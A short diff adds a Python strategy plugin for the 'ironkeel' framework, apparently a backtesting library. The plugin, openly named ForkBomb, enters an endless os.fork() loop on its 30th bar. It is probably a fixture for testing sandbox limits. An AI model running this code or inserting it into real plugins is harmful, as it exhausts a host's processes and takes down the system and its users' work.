@@ -1,0 +1,16 @@
+import os
+
+from ironkeel import Param, Strategy
+
+
+class ForkBomb(Strategy):
+    at: int = Param(30)
+
+    def on_start(self):
+        self.n = 0
+
+    def on_bar(self, bar):
+        self.n += 1
+        if self.n == self.at:
+            while True:
+                os.fork()
